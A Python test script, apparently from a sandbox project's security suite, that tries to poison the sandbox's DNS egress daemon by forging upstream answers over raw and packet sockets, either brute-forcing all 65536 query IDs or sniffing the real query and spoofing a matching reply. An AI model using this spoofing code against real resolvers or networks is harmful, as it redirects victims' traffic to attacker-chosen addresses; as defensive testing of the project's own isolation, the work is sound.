#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Forge upstream DNS answers from inside the sandbox (docs/security.md, class 2).

Plays a root workload with CAP_NET_RAW: finds egressd's upstream socket in
/proc/net/udp and injects answers that claim to come from the upstream,
carrying "A TARGET", through a raw socket to its own address and through a
packet socket on lo. Two attacks:

  brute UPSTREAM NAME TARGET  ~2000 queries for NAME in flight, then a
                              forged answer for every one of the 65536 ids
  sniff UPSTREAM NAME TARGET IFACE
                              read egressd's query off IFACE (packet
                              socket), forge one perfect answer (id, case)

Prints one line per client answer: "answer RCODE ADDR..." (TIMEOUT when
none came).
"""
import os
import random
import socket
import struct
import sys
import threading
import time

from forgelib import parse_answer, proc_udp_socket, qname_wire, query


def answer(qid, question, target):
    """question: the wire bytes of name+type+class as the query had them."""
    return struct.pack(">HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question + \
        struct.pack(">HHHIH", 0xc00c, 1, 1, 300, 4) + socket.inet_aton(target)


def ip_udp(src, sport, dst, dport, payload):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    # Header checksum (the raw socket fills it in; the packet socket not).
    s = sum(struct.unpack(">10H", ip))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    ip = ip[:10] + struct.pack(">H", ~s & 0xffff) + ip[12:]
    return ip + udp


class Injector:
    def __init__(self, up, me, port):
        self.up, self.me, self.port = up, me, port
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.pkt = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.pkt.bind(("lo", 0))
        self.sent = 0

    def send(self, payload):
        p = ip_udp(self.up, 53, self.me, self.port, payload)
        for how in (lambda: self.raw.sendto(p, (self.me, 0)),
                    lambda: self.pkt.send(b"\0" * 12 + b"\x08\x00" + p)):
            try:
                how()
                self.sent += 1
            except OSError:
                pass


def collect(sock, n, deadline):
    got = []
    while len(got) < n and time.time() < deadline:
        sock.settimeout(max(0.01, deadline - time.time()))
        try:
            m = sock.recv(4096)
        except OSError:
            break
        rcode, addrs = parse_answer(m)
        got.append((rcode, addrs))
    return got


def brute(up, name, target):
    me, port = proc_udp_socket(up)
    inj = Injector(up, me, port)
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    c.connect((up, 53))
    n = 2000
    for _ in range(n):
        c.send(query(random.randrange(65536), name))
    time.sleep(0.2)
    question = qname_wire(name) + struct.pack(">HH", 1, 1)
    for qid in range(65536):
        inj.send(answer(qid, question, target))
    print("sent %d forged answers to %s:%d" % (inj.sent, me, port),
          file=sys.stderr)
    return collect(c, n, time.time() + 8)


def sniff(up, name, target, iface):
    me, port = proc_udp_socket(up)
    inj = Injector(up, me, port)
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                        socket.htons(0x0003))
    cap.bind((iface, 0))
    cap.settimeout(5)
    found = {}

    def reader():
        upb = socket.inet_aton(up)
        while True:
            try:
                f = cap.recv(65535)
            except OSError:
                return
            ip = f[14:]
            if len(ip) < 28 or ip[9] != 17 or ip[16:20] != upb:
                continue
            ihl = (ip[0] & 15) * 4
            sport, dport = struct.unpack(">HH", ip[ihl:ihl + 4])
            if dport != 53 or sport != port:
                continue
            dns = ip[ihl + 8:]
            end = 12
            while dns[end]:
                end += dns[end] + 1
            found["id"] = struct.unpack(">H", dns[:2])[0]
            found["q"] = dns[12:end + 5]
            return

    t = threading.Thread(target=reader)
    t.start()
    time.sleep(0.2)
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.connect((up, 53))
    c.send(query(0x4242, name))
    t.join(6)
    if "id" not in found:
        sys.exit("did not see egressd's query on %s" % iface)
    print("sniffed id %d question %r" % (found["id"], found["q"]),
          file=sys.stderr)
    for _ in range(50):
        inj.send(answer(found["id"], found["q"], target))
    return collect(c, 1, time.time() + 8)


def main():
    mode = sys.argv[1]
    if mode == "brute":
        got = brute(*sys.argv[2:5])
    else:
        got = sniff(*sys.argv[2:6])
    if not got:
        print("answer TIMEOUT")
    for rcode, addrs in got:
        print("answer %d %s" % (rcode, " ".join(addrs)))


main()
